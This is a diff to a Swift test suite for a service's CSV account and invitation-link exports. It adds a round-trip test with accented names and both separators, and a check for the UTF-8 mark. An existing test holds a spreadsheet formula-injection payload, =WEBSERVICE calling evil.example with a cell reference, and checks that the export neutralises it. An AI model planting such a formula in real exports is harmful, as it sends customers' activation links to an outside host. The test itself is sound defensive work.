@@ -30,6 +30,20 @@ import Web
         #expect(try reader.next() == nil)
     }
 
+    @Test(arguments: CSVSeparator.allCases)
+    func `a list is read back as accounts, with either separator`(separator: CSVSeparator) throws {
+        let brand = try #require(try ConfigurationTexts.read("data: /d").brands["northline"])
+        let list = CSVWriter.list(
+            [
+                ["number", "company", "phone", "email", "name", "language"],
+                ["1", "Café; Zoé, fils", "", "z@cafe.example", "Zoé", "fr"],
+            ], separator: separator)
+        #expect(list.hasPrefix(CSVWriter.mark))
+        let accounts = try AccountFile(Array(list.utf8), brand: brand, world: .random)
+        #expect(accounts.encoding == .utf8)
+        #expect(accounts.entries.map(\.new.account.company) == ["Café; Zoé, fils"])
+    }
+
     @Test func `a list of activation links executes nothing that a customer's name holds`() throws {
         let brand = try #require(try ConfigurationTexts.read("data: /d").brands["northline"])
         let file =
@@ -39,12 +53,13 @@ import Web
         let list = InvitationList(
             accounts.entries.map { ($0.new, $0.invitation) }, brand: brand,
             at: PublicAddress(scheme: "https", port: 443))
-        var reader = CSVReader(Array(list.csv.utf8))
+        var reader = CSVReader(Array(list.csv().utf8))
         #expect(try reader.next()?.fields == ["number", "company", "name", "email", "language", "link"])
         let fields = try #require(try reader.next()).fields
+        #expect(list.csv().hasPrefix(CSVWriter.mark), "or a spreadsheet spoils its accents")
         #expect(fields[1] == "'=WEBSERVICE(\"https://evil.example/\"&F2)")
         #expect(fields[2] == "'-A")
         #expect(fields[5].hasPrefix("https://northline.localhost/activate/"))
-        #expect(!list.csv.contains("\r"), "a link that is cut out has no carriage return at its end")
+        #expect(!list.csv().contains("\r"), "a link that is cut out has no carriage return at its end")
     }
 }
